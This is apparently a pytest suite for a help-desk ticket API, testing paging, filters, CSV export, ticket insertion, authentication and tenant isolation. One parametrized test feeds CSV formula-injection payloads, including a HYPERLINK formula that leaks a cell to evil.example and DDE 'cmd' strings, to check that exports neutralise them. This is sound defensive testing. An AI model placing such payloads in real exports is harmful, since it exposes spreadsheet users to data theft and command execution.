"""``003_…`` Message API: every example request of the seed replayed against Intake, the
keyset feeds under concurrent changes, CSV, insertTicket's fields, auth and tenancy."""

from __future__ import annotations

import csv
import io
import json
import time
from urllib.parse import parse_qs, urlsplit

import pytest

from pipeline.stage_order import ORDER
from pipeline.store import mailboxes, tickets
from tests.files import Reply
from tests.helpers import accept, make_org, mfs, run_pipeline, wait_for
from tests.web.family_helpers import make_agent

USER = "agent-7878"
TICKET_KEYS = {
    "sid", "inboxName", "ticketID", "status", "subject", "fromEmail", "labels",
    "createdDate", "updatedDate", "latestUpdated",
}  # fmt: skip
MESSAGE_KEYS = {
    "sid", "ticketID", "from", "fromName", "agentID", "messageType", "messagePlain",
    "messageHtml", "attachments", "date",
}  # fmt: skip
EMAIL_KEYS = {"createdDate", "inboxName", "from", "ticketID", "to", "cc", "bcc"}
TICKET_JSON = {
    "fromEmail": "john.doe@example.com",
    "toEmail": "info@your-company.se",
    "subject": "My subject",
    "message": "My message",
}


@pytest.fixture
def inbox(conn, org):
    created = mailboxes.create(conn, org.org_id, "info@your-company.se", "Info")
    conn.execute("UPDATE mailboxes SET inbox_name = 'Info' WHERE id = %s", (created.id,))
    return created


@pytest.fixture
def agent(conn, org):
    return make_agent(conn, org.org_id, "agent1@company.com", "Agent1 Name", USER)


@pytest.fixture
def base(org, agent):
    """``/message/<name>/<apiKey>/<userId>`` with this organization's key and agent."""
    return lambda name: f"/message/{name}/{org.key.token}/{USER}"


def path_of(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.path}?{parts.query}"


def make_ticket(conn, org_id, mailbox_id, subject, email=None, status="new", labels=()):
    from pipeline.store import contacts

    contact = contacts.find_or_create(conn, org_id, email) if email else None
    ticket_id = tickets.create(
        conn, org_id, subject=subject, contact_id=contact, mailbox_id=mailbox_id,
        source_message_id=None, status=status,
    )  # fmt: skip
    if labels:
        conn.execute("UPDATE tickets SET labels = %s WHERE id = %s", (list(labels), ticket_id))
    return ticket_id


def touch(conn, ticket_id):
    """Change the ticket; a millisecond apart from the last change, as the cursor's
    ``updated_at`` is kept at millisecond precision (two changes within one millisecond
    order by id)."""
    time.sleep(0.002)
    conn.execute("UPDATE tickets SET notes = notes || '.' WHERE id = %s", (ticket_id,))


def feed(client, url):
    """Follow ``next`` to the end; the ids of each page."""
    pages = []
    while url:
        body = client.get(path_of(url) if url.startswith("http") else url).json
        assert body["result"] == "success", body
        pages.append([t["ticketID"] for t in body["json"]])
        url = body["next"]
    return pages


# listTickets


def test_list_tickets_example_pages_with_next(client, conn, org, inbox, base):
    ids = [
        make_ticket(conn, org.org_id, inbox.id, f"T{i}", "john.doe@example.org") for i in range(3)
    ]
    response = client.get(base("listTickets") + "?updatedAfter=2020-01-01&limit=2")
    assert response.status_code == 200
    body = response.json
    assert body["result"] == "success"
    assert body["length"] == 2
    assert [t["ticketID"] for t in body["json"]] == ids[:2]
    item = body["json"][0]
    assert set(item) == TICKET_KEYS
    assert item["sid"] == 1
    assert item["inboxName"] == "Info"
    assert item["fromEmail"] == "john.doe@example.org"
    assert item["status"] == "new"
    assert item["labels"] == []
    assert item["updatedDate"].endswith("Z") and len(item["updatedDate"]) == 24
    query = parse_qs(urlsplit(body["next"]).query)
    assert query["updatedAfter"] == ["2020-01-01"]
    assert query["limit"] == ["2"]
    assert query["cursorId"] == [str(ids[1])]
    assert int(query["cursorUpdated"][0]) > 1_600_000_000_000
    last = client.get(path_of(body["next"])).json
    assert [t["ticketID"] for t in last["json"]] == ids[2:]
    assert last["next"] is None


def test_keyset_pages_skip_and_repeat_nothing_while_tickets_change(client, conn, org, inbox, base):
    ids = [make_ticket(conn, org.org_id, inbox.id, f"T{i}") for i in range(6)]
    first = client.get(base("listTickets") + "?limit=2").json
    assert [t["ticketID"] for t in first["json"]] == ids[:2]
    touch(conn, ids[3])  # not yet delivered: moves behind the cursor, still comes once
    touch(conn, ids[0])  # delivered: comes again once, as its new version
    added = make_ticket(conn, org.org_id, inbox.id, "New")
    rest = feed(client, first["next"])
    seen = [t["ticketID"] for t in first["json"]] + [i for page in rest for i in page]
    assert sorted(set(seen)) == sorted([*ids, added])
    assert seen.count(ids[3]) == 1
    assert seen.count(ids[0]) == 2
    assert all(seen.count(i) == 1 for i in [*ids[1:3], *ids[4:], added])
    assert seen[-3:] == [ids[3], ids[0], added]


def test_tickets_within_one_millisecond_page_by_id(client, conn, org, inbox, base):
    ids = [make_ticket(conn, org.org_id, inbox.id, f"T{i}") for i in range(5)]
    conn.execute("UPDATE tickets SET notes = 'same transaction, same now()'")
    pages = feed(client, base("listTickets") + "?limit=2")
    assert pages == [ids[:2], ids[2:4], ids[4:]]


def test_list_tickets_filters(client, conn, org, inbox, base):
    a = make_ticket(conn, org.org_id, inbox.id, "A", "a@example.org", "pending", ["vip", "billing"])
    b = make_ticket(conn, org.org_id, inbox.id, "B", "b@example.org", "closed", ["billing"])
    c = make_ticket(conn, org.org_id, inbox.id, "C", "A@example.org", "new", ["spam"])
    time.sleep(0.005)  # ticket times have millisecond resolution: make b's change come later
    conn.execute("UPDATE tickets SET latest_updated_at = '2021-06-01' WHERE id = %s", (b,))

    def ids(query):
        response = client.get(base("listTickets") + query)
        assert response.status_code == 200, response.json
        return [t["ticketID"] for t in response.json["json"]]

    assert ids("?status=pending") == [a]
    assert ids("?fromEmail=a@example.org") == [a, c]
    assert ids("?label=vip&label=spam") == [a, c]
    assert ids("?label=billing") == [a, b]
    assert ids("?latestUpdatedBefore=2021-06-01") == [b]
    assert ids("?latestUpdatedAfter=2022-01-01") == [a, c]
    assert ids("?updatedBefore=2020-01-01") == []
    assert ids("?updatedAfter=2020-01-01T00:00:00Z") == [a, c, b]  # b changed last


def test_list_tickets_as_csv(client, conn, org, inbox, base):
    make_ticket(conn, org.org_id, inbox.id, 'Café, "urgent"', "x@example.org", labels=["a", "b"])
    make_ticket(conn, org.org_id, inbox.id, "Second")
    response = client.get(base("listTickets") + "?fileType=csv&limit=1")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = response.data.decode("utf-8")
    assert '"Café, ""urgent"""' in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == [
        "sid", "inboxName", "ticketID", "status", "subject", "fromEmail", "labels",
        "createdDate", "updatedDate", "latestUpdated",
    ]  # fmt: skip
    assert rows[0]["subject"] == 'Café, "urgent"'
    assert rows[0]["sid"] == "1"
    assert rows[0]["labels"] == "a, b"
    next_url = response.headers["Link"].split(";")[0].strip("<>")
    second = client.get(path_of(next_url))
    [row] = csv.DictReader(io.StringIO(second.data.decode()))
    assert row["subject"] == "Second"


@pytest.mark.parametrize(
    "subject",
    ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"],
)  # fmt: skip
def test_csv_cells_that_start_like_a_formula_are_prefixed_with_a_quote(
    client, conn, org, inbox, base, subject
):
    make_ticket(conn, org.org_id, inbox.id, subject, "=cmd@example.org")
    response = client.get(base("listTickets") + "?fileType=csv")
    [row] = csv.DictReader(io.StringIO(response.data.decode(), newline=""))
    assert row["subject"] == "'" + subject
    assert row["fromEmail"] == "'=cmd@example.org"
    assert row["ticketID"].isdigit()


@pytest.mark.parametrize(
    ("query", "field"),
    [("?limit=0", "limit"), ("?status=lost", "status"), ("?updatedAfter=yesterday", "updatedAfter"),
     ("?cursorId=3", "cursorUpdated"), ("?fileType=xml", "fileType")],
)  # fmt: skip
def test_bad_list_parameters_answer_in_the_error_envelope(client, base, query, field):
    response = client.get(base("listTickets") + query)
    assert response.status_code == 422
    assert response.json["result"] == "error"
    assert field in response.json["message"]


# grabTicket

MAIL = mfs("""
    From: John Doe <john.doe@example.org>
    To: info@your-company.se
    Subject: Booking
    Message-ID: <booking-1@example.org>
    MIME-Version: 1.0
    Content-Type: multipart/mixed; boundary="b"

    --b
    Content-Type: multipart/alternative; boundary="c"

    --c
    Content-Type: text/plain; charset=utf-8

    Hello
    --c
    Content-Type: text/html; charset=utf-8

    <p>Hello</p>
    --c--
    --b
    Content-Type: text/plain; name="booking.txt"
    Content-Disposition: attachment; filename="booking.txt"

    seat 12A
    --b--
""")


@pytest.fixture
def booked(conn, pool, org, inbox, agent):
    """A ticket opened by the pipeline, with an internal note, a log line and meta data."""
    message_id = accept(pool, MAIL, inbox)
    run_pipeline(pool, message_id)
    ticket_id = conn.execute("SELECT ticket_id FROM messages").fetchone()["ticket_id"]
    for kind, text in (("internal", "Called him back"), ("log", "Status changed")):
        conn.execute(
            """INSERT INTO ticket_messages (org_id, ticket_id, type, agent_id, body_text,
                                            from_address, from_name)
               VALUES (%s, %s, %s, %s, %s, 'agent1@company.com', 'Agent1 Name')""",
            (org.org_id, ticket_id, kind, agent, text),
        )
    other = make_ticket(conn, org.org_id, inbox.id, "Linked")
    conn.execute(
        """UPDATE tickets SET tags = '{tag name}', labels = '{label name}', notes = 'notes content',
                  custom_fields = '[{"title": "Order number", "value": "12345"}]', status = 'pending'
           WHERE id = %s""",
        (ticket_id,),
    )
    conn.execute("INSERT INTO ticket_links VALUES (%s, %s, %s)", (org.org_id, ticket_id, other))
    conn.execute("INSERT INTO ticket_agents VALUES (%s, %s, %s)", (org.org_id, ticket_id, agent))
    return ticket_id


def test_grab_ticket_example_gives_messages_in_order_and_meta(client, base, booked, agent, org):
    response = client.get(f"{base('grabTicket')}/{booked}")
    assert response.status_code == 200
    body = response.json
    assert body["result"] == "success"
    assert body["length"] == 3
    external, internal, log = body["json"]
    assert log["messagePlain"] == "Status changed"
    assert all(set(m) == MESSAGE_KEYS for m in body["json"])
    assert [m["sid"] for m in body["json"]] == [1, 1, 1]
    assert [m["messageType"] for m in body["json"]] == ["external", "internal", "log"]
    assert external["ticketID"] == str(booked)
    assert external["from"] == "john.doe@example.org"
    assert external["fromName"] == "John Doe"
    assert external["agentID"] is None
    assert external["messagePlain"] == "Hello"
    assert external["messageHtml"].strip() == "<p>Hello</p>"
    assert internal["agentID"] == agent
    assert internal["messagePlain"] == "Called him back"
    assert external["date"].endswith("Z")
    assert body["meta"] == {
        "tags": [{"tag": "tag name"}],
        "labels": [{"label": "label name"}],
        "notes": "notes content",
        "linkedTickets": [{"ticketId": booked + 1}],
        "ticketStatus": "pending",
        "assignedAgents": [
            {"id": agent, "agentName": "Agent1 Name", "agentEmail": "agent1@company.com"}
        ],
        "customFields": [{"title": "Order number", "value": "12345"}],
    }
    [url] = external["attachments"]
    assert url.startswith("http://localhost/message/grabAttachment/")
    download = client.get(path_of(url).rstrip("?"))
    assert download.status_code == 200
    assert download.data.strip() == b"seat 12A"
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.headers["Content-Disposition"].startswith("attachment;")


def test_attachment_urls_need_the_organizations_key(client, conn, base, booked):
    attachment_id = conn.execute("SELECT id FROM attachments").fetchone()["id"]
    other = make_org(conn, "Globex")
    make_agent(conn, other.org_id, "x@globex.example", "X", USER)
    foreign = client.get(f"/message/grabAttachment/{other.key.token}/{USER}/{attachment_id}")
    assert foreign.status_code == 404
    assert foreign.json["result"] == "error"
    forged = client.get(f"/message/grabAttachment/{other.key.key}.forged/{USER}/{attachment_id}")
    assert forged.status_code == 401


def test_grab_unknown_or_foreign_ticket_is_a_404(client, conn, base, booked):
    assert client.get(f"{base('grabTicket')}/999999").status_code == 404
    assert client.get(f"{base('grabTicket')}/abc").json == {
        "result": "error",
        "message": "Ticket not found",
    }
    other = make_org(conn, "Globex")
    make_agent(conn, other.org_id, "x@globex.example", "X", USER)
    response = client.get(f"/message/grabTicket/{other.key.token}/{USER}/{booked}")
    assert response.status_code == 404
    listed = client.get(f"/message/listTickets/{other.key.token}/{USER}").json
    assert listed["json"] == []


# insertTicket


def test_insert_ticket_example_goes_through_the_one_door(client, conn, base, inbox, org):
    response = client.post(
        base("insertTicket"), data=json.dumps(TICKET_JSON),
        headers={"Content-Type": "application/json"},
    )  # fmt: skip
    assert response.status_code == 200
    assert response.json["result"] == "success"
    ticket_id = response.json["json"]["ticketID"]
    ticket = conn.execute("SELECT * FROM tickets WHERE id = %s", (ticket_id,)).fetchone()
    assert ticket["subject"] == "My subject"
    assert ticket["mailbox_id"] == inbox.id
    mail = conn.execute("SELECT * FROM messages").fetchone()
    assert mail["channel"] == "api"
    assert mail["ticket_id"] == ticket_id
    assert mail["from_address"] == "john.doe@example.com"
    assert mail["body_text"].strip() == "My message"
    assert mail["raw_size"] > 0 and mail["message_id"].startswith("<")
    assert mail["analysis"]["api"]["auto_reply"] is True
    assert [stage for stage in ORDER if stage not in mail["analysis"]] == []  # none skipped
    bypassed = [s for s in ORDER if mail["analysis"][s].get("bypassed") == "api"]
    assert bypassed == ["filter", "categorize", "voicemail"]  # Mail Flow, as documented
    assert (mail["stage"], mail["state"]) == (None, "done")
    raw = conn.execute("SELECT data FROM blobs WHERE sha256 = %s", (mail["raw_sha256"],))
    assert b"Subject: My subject" in bytes(raw.fetchone()["data"])


def test_insert_appends_to_the_senders_open_ticket_by_default(client, conn, base, inbox):
    first = client.post(base("insertTicket"), json=TICKET_JSON).json["json"]["ticketID"]
    second = client.post(base("insertTicket"), json=TICKET_JSON).json["json"]["ticketID"]
    assert second == first
    ticket = conn.execute("SELECT exchange_count, status FROM tickets").fetchone()
    assert ticket == {"exchange_count": 2, "status": "reply"}
    separate = client.post(base("insertTicket"), json={**TICKET_JSON, "appendOpenTicket": False})
    assert separate.json["json"]["ticketID"] != first


def attachment(path: str) -> Reply:
    if path == "/huge":
        return Reply(headers={"Content-Length": str(60 * 1024 * 1024)})
    if path == "/contract.pdf":
        return Reply(b"%PDF-1.4 contract", "application/pdf")
    return Reply(b"logo", "application/pdf" if "pdf" in path else "image/png")


@pytest.fixture
def files(serve_files):
    return serve_files(attachment)


def test_insert_with_every_documented_field(client, conn, base, inbox, org, agent, files):
    second = make_agent(conn, org.org_id, "agent2@company.com", "Agent2 Name")
    body = {
        **TICKET_JSON,
        "fromName": "John",
        "appendOpenTicket": True,
        "attachments": [f"{files}/contract.pdf", f"{files}/logo.png"],
        "assignAgents": ["agent1@company.com", "AGENT2@company.com"],
        "autoReply": False,
        "labels": ["Support", "VIP"],
        "messageType": "external",
        "status": "pending",
    }
    ticket_id = client.post(base("insertTicket"), json=body).json["json"]["ticketID"]
    ticket = conn.execute("SELECT * FROM tickets WHERE id = %s", (ticket_id,)).fetchone()
    assert ticket["labels"] == ["Support", "VIP"]
    assert ticket["status"] == "pending"
    assigned = conn.execute("SELECT agent_id FROM ticket_agents ORDER BY agent_id").fetchall()
    assert [a["agent_id"] for a in assigned] == [agent, second]
    files_on_ticket = conn.execute(
        "SELECT filename, mime_type, size FROM attachments WHERE ticket_id = %s ORDER BY position",
        (ticket_id,),
    ).fetchall()
    assert [(f["filename"], f["mime_type"]) for f in files_on_ticket] == [
        ("contract.pdf", "application/pdf"),
        ("logo.png", "image/png"),
    ]
    mail = conn.execute("SELECT from_name, analysis FROM messages").fetchone()
    assert mail["from_name"] == "John"
    assert mail["analysis"]["api"]["auto_reply"] is False

    note = {**TICKET_JSON, "messageType": "internal", "ticketId": str(ticket_id), "message": "Psst"}
    assert client.post(base("insertTicket"), json=note).json["json"]["ticketID"] == ticket_id
    kinds = conn.execute(
        "SELECT type, agent_id, body_text FROM ticket_messages WHERE ticket_id = %s ORDER BY id",
        (ticket_id,),
    ).fetchall()
    assert [(k["type"], k["agent_id"]) for k in kinds] == [("external", None), ("internal", agent)]
    assert kinds[1]["body_text"].strip() == "Psst"


@pytest.mark.parametrize(
    ("change", "status", "needle"),
    [({"toEmail": "someone@else.example"}, 422, "toEmail"),
     ({"assignAgents": ["ghost@company.com"]}, 422, "ghost@company.com"),
     ({"ticketId": "999999"}, 404, "Ticket not found"),
     ({"fromEmail": "not-an-address"}, 422, "fromEmail"),
     ({"messageType": "sms"}, 422, "messageType"),
     ({"subject": ""}, 422, "subject")],
)  # fmt: skip
def test_insert_refuses_bad_fields_in_the_error_envelope(
    client, conn, base, inbox, change, status, needle
):
    response = client.post(base("insertTicket"), json={**TICKET_JSON, **change})
    assert response.status_code == status
    assert response.json["result"] == "error"
    assert needle in response.json["message"]
    assert conn.execute("SELECT count(*) AS n FROM messages").fetchone()["n"] == 0


def test_attachments_over_50_mb_are_a_413(client, base, inbox, files):
    response = client.post(
        base("insertTicket"), json={**TICKET_JSON, "attachments": [f"{files}/huge"]}
    )
    assert response.status_code == 413
    assert response.json == {"result": "error", "message": "attachments exceed 50 MB in total"}


def test_attachment_urls_to_private_addresses_are_refused(
    app, client, base, inbox, files, monkeypatch
):
    settings = app.config["INTAKE_SETTINGS"]
    monkeypatch.setitem(
        app.config, "INTAKE_SETTINGS", settings.with_overrides(fetch_allow_private=False)
    )
    response = client.post(
        base("insertTicket"), json={**TICKET_JSON, "attachments": [f"{files}/logo.png"]}
    )
    assert response.status_code == 422
    assert "not a public address" in response.json["message"]


def test_a_toemail_of_another_organization_is_refused(client, conn, base, inbox):
    other = make_org(conn, "Globex")
    mailboxes.create(conn, other.org_id, "help@globex.example")
    response = client.post(
        base("insertTicket"), json={**TICKET_JSON, "toEmail": "help@globex.example"}
    )
    assert response.status_code == 422


# auth


def test_key_scope_and_user_are_checked(client, conn, org, agent, inbox):
    bad = client.get(f"/message/listTickets/{org.key.key}.wrong/{USER}")
    assert bad.status_code == 401
    assert bad.json["result"] == "error"
    assert client.get(f"/message/listTickets/nodot/{USER}").status_code == 401
    unknown_user = client.get(f"/message/listTickets/{org.key.token}/nobody")
    assert unknown_user.status_code == 403
    assert unknown_user.json == {"result": "error", "message": "Unknown user for this API key"}
    by_id = client.get(f"/message/listTickets/{org.key.token}/{agent}")
    assert by_id.status_code == 200
    reader = make_org(conn, "Reader", scopes=("read",))
    conn.execute("UPDATE api_keys SET org_id = %s WHERE id = %s", (org.org_id, reader.key.id))
    path = f"/message/insertTicket/{reader.key.token}/{USER}"
    denied = client.post(path, json=TICKET_JSON)
    assert denied.status_code == 403
    assert "write" in denied.json["message"]


def test_an_agent_of_another_organization_is_unknown(client, conn, org):
    other = make_org(conn, "Globex")
    make_agent(conn, other.org_id, "x@globex.example", "X", "globex-agent")
    response = client.get(f"/message/listTickets/{org.key.token}/globex-agent")
    assert response.status_code == 403


def test_unknown_message_paths_answer_in_the_error_envelope(client):
    response = client.get("/message/nothing/here")
    assert response.status_code == 404
    assert response.json["result"] == "error"


# listTicketsEmails


@pytest.fixture
def window_mails(conn, pool, org, inbox):
    """Three inbound mails and two sent ones around 2020-01-01 in Stockholm (UTC+1)."""
    times = {
        "before": "2019-12-31T22:30:00Z",  # 23:30 on Dec 31 in Stockholm
        "first": "2019-12-31T23:30:00Z",  # 00:30 on Jan 1 in Stockholm
        "bcc": "2020-01-01T10:00:00Z",
    }
    ids = {}
    for name, at in times.items():
        to = "info@your-company.se" if name != "bcc" else "someone@example.org"
        raw = mfs(f"""
            From: Customer <customer-{name}@example.org>
            To: {to}
            Cc: ccd@example.org
            Subject: {name}
            Message-ID: <{name}@example.org>

            Hi
        """)
        ids[name] = accept(pool, raw, inbox)
        run_pipeline(pool, ids[name])
        conn.execute("UPDATE messages SET received_at = %s WHERE id = %s", (at, ids[name]))
    ticket_id = conn.execute(
        "SELECT ticket_id FROM messages WHERE id = %s", (ids["first"],)
    ).fetchone()["ticket_id"]
    for n, at in enumerate(("2020-01-01T12:00:00Z", "2020-01-01T23:30:00Z")):
        conn.execute(
            """INSERT INTO sent_mails (org_id, ticket_id, message_id, from_address, from_name,
                                       to_addresses, cc_addresses, bcc_addresses, subject, status,
                                       created_at)
               VALUES (%s, %s, %s, 'agent@example.org', 'agent', '{customer@example.org}', '{}',
                       '{audit@example.org}', 'Re: first', 'sent', %s)""",
            (org.org_id, ticket_id, f"<out-{n}@intake.local>", at),
        )
    return ids, ticket_id


def test_list_tickets_emails_example_in_the_stockholm_window(client, base, window_mails):
    ids, ticket_id = window_mails
    response = client.get(
        base("listTicketsEmails") + "?startTime=2020-01-01&endTime=2020-01-02&limit=2"
    )
    assert response.status_code == 200
    body = response.json
    assert body["result"] == "success"
    assert body["length"] == 2
    first, bcc = body["json"]
    assert set(first) == EMAIL_KEYS
    assert first == {
        "createdDate": "2019-12-31T23:30:00.000Z",
        "inboxName": "Info",
        "from": {"address": "customer-first@example.org", "name": "Customer"},
        "ticketID": ticket_id,
        "to": [{"address": "info@your-company.se"}],
        "cc": [{"address": "ccd@example.org"}],
        "bcc": [],
    }
    assert bcc["bcc"] == [{"address": "info@your-company.se"}]
    query = parse_qs(urlsplit(body["next"]).query)
    assert query["cursorCreated"] == ["1577872800000"]  # 2020-01-01T10:00Z
    rest = client.get(path_of(body["next"])).json
    assert [m["from"] for m in rest["json"]] == [
        {"address": "agent@example.org", "name": "agent"}
    ] * 2
    assert rest["json"][0]["to"] == [{"address": "customer@example.org"}]
    assert rest["json"][0]["bcc"] == [{"address": "audit@example.org"}]
    assert rest["json"][0]["inboxName"] == "Info"
    assert rest["next"] is None
    listed = {m["from"]["address"] for m in body["json"] + rest["json"]}
    assert "customer-before@example.org" not in listed
    assert ids["before"] < ids["first"]


def test_list_tickets_emails_reads_dates_in_the_given_timezone(client, base, window_mails):
    response = client.get(
        base("listTicketsEmails") + "?startTime=2020-01-01&endTime=2020-01-01&timezone=UTC"
    )
    dates = [m["createdDate"] for m in response.json["json"]]
    assert dates == [
        "2020-01-01T10:00:00.000Z",
        "2020-01-01T12:00:00.000Z",
        "2020-01-01T23:30:00.000Z",
    ]
    exact = client.get(
        base("listTicketsEmails")
        + "?startTime=2020-01-01T10:00:00&endTime=2020-01-01T12:00:00&timezone=UTC"
    )
    assert [m["createdDate"] for m in exact.json["json"]] == dates[:2]


def test_list_tickets_emails_as_csv(client, base, window_mails):
    response = client.get(
        base("listTicketsEmails") + "?startTime=2020-01-01&endTime=2020-01-02&fileType=csv"
    )
    rows = list(csv.DictReader(io.StringIO(response.data.decode())))
    assert len(rows) == 4
    assert rows[0]["fromAddress"] == "customer-first@example.org"
    assert rows[0]["cc"] == "ccd@example.org"
    assert "Link" not in response.headers


@pytest.mark.parametrize(
    ("query", "needle"),
    [("?endTime=2020-01-02", "startTime"), ("?startTime=2020-01-01", "endTime"),
     ("?startTime=2020-01-01&endTime=2020-01-02&timezone=Mars/Olympus", "Mars/Olympus"),
     ("?startTime=2020-01-01&endTime=2020-01-02&cursorCreated=5", "cursorCreated")],
)  # fmt: skip
def test_list_tickets_emails_validation(client, base, query, needle):
    response = client.get(base("listTicketsEmails") + query)
    assert response.status_code == 422
    assert response.json["result"] == "error"
    assert needle in response.json["message"]


def test_sid_is_the_organizations_own_stable_integer(client, conn, org, inbox, base):
    other = make_org(conn, "Globex")
    other_inbox = mailboxes.create(conn, other.org_id, "info@globex.example", "Info")
    make_agent(conn, other.org_id, "a@globex.example", "A", USER)
    make_ticket(conn, org.org_id, inbox.id, "Ours")
    make_ticket(conn, other.org_id, other_inbox.id, "Theirs")
    ours = client.get(base("listTickets")).json["json"]
    theirs = client.get(f"/message/listTickets/{other.key.token}/{USER}").json["json"]
    assert [t["sid"] for t in ours] == [1]
    assert [t["sid"] for t in theirs] == [2]
    assert client.get(base("listTickets")).json["json"][0]["sid"] == 1


def test_sent_mail_rows_name_the_inbox_they_went_out_from(client, conn, org, inbox, base):
    from pipeline.store import send_configs

    send_configs.create_config(
        conn, org.org_id, name="relay", host="127.0.0.1", port=1, tls_mode="none",
        from_email="info@your-company.se", from_name="Info", is_default=True,
    )  # fmt: skip
    sent = client.post(
        "/api/send",
        json={"to": "customer@example.org", "subject": "Hello", "text": "Hi"},
        headers=org.headers,
    )
    assert sent.status_code in (200, 201, 202), sent.json
    conn.execute("UPDATE sent_mails SET created_at = '2020-01-01T12:00:00Z'")
    response = client.get(
        base("listTicketsEmails") + "?startTime=2020-01-01&endTime=2020-01-02&timezone=UTC"
    )
    [row] = response.json["json"]
    assert row["from"] == {"address": "info@your-company.se", "name": "Info"}
    assert row["ticketID"] is None
    assert row["inboxName"] == "Info"


def test_message_plain_has_lf_line_endings_and_no_trailing_cr(client, pool, conn, inbox, base):
    raw = mfs("""
        From: John Doe <john.doe@example.org>
        To: info@your-company.se
        Subject: Printer
        Message-ID: <printer@example.org>

        Hello,

        A question about the printer.
    """)
    message_id = accept(pool, raw, inbox)
    run_pipeline(pool, message_id)
    ticket_id = conn.execute("SELECT ticket_id FROM messages").fetchone()["ticket_id"]
    [message] = client.get(f"{base('grabTicket')}/{ticket_id}").json["json"]
    assert message["messagePlain"] == "Hello,\n\nA question about the printer."


# insertTicket autoReply: the same auto-reply path as every channel


@pytest.fixture
def auto_replies(conn, org, smtp_sink):
    from pipeline.store import send_configs

    conn.execute("UPDATE organizations SET auto_reply_enabled = true WHERE id = %s", (org.org_id,))
    send_configs.create_config(
        conn, org.org_id, name="sink", host=smtp_sink.host, port=smtp_sink.port,
        tls_mode="none", from_email="info@your-company.se", is_default=True,
    )  # fmt: skip
    return smtp_sink


def _auto_replies(conn) -> list[dict]:
    return conn.execute(
        "SELECT to_addresses, status FROM sent_mails WHERE kind = 'auto_reply' ORDER BY id"
    ).fetchall()


def test_insert_ticket_sends_the_auto_reply_by_default(
    client, conn, base, inbox, auto_replies, worker
):
    ticket_id = client.post(base("insertTicket"), json=TICKET_JSON).json["json"]["ticketID"]
    wait_for(lambda: len(auto_replies.messages) == 1)
    assert auto_replies.messages[0].rcpt_tos == ["john.doe@example.com"]
    mail = conn.execute("SELECT analysis FROM messages").fetchone()["analysis"]
    assert mail["auto_reply"]["to"] == "john.doe@example.com"
    number = conn.execute("SELECT number FROM tickets WHERE id = %s", (ticket_id,)).fetchone()
    assert f"[#{number['number']}]".encode() in auto_replies.messages[0].data


def test_insert_ticket_with_auto_reply_false_sends_none(client, conn, base, inbox, auto_replies):
    response = client.post(base("insertTicket"), json={**TICKET_JSON, "autoReply": False})
    assert response.json["result"] == "success"
    assert _auto_replies(conn) == []
    assert "auto_reply" not in conn.execute("SELECT analysis FROM messages").fetchone()["analysis"]


def test_insert_ticket_auto_replies_keep_the_loop_protection(
    client, conn, base, inbox, auto_replies
):
    separate = {**TICKET_JSON, "appendOpenTicket": False}
    client.post(base("insertTicket"), json=separate)
    client.post(base("insertTicket"), json=separate)  # same sender within the window
    client.post(base("insertTicket"), json={**separate, "fromEmail": "mailer-daemon@example.com"})
    assert len(_auto_replies(conn)) == 1
    skipped = conn.execute(
        "SELECT analysis->'auto_reply'->>'skipped' AS why FROM messages ORDER BY id"
    ).fetchall()
    assert [r["why"] for r in skipped] == [
        None,
        "already answered within the window",
        "automatic or own mail",
    ]
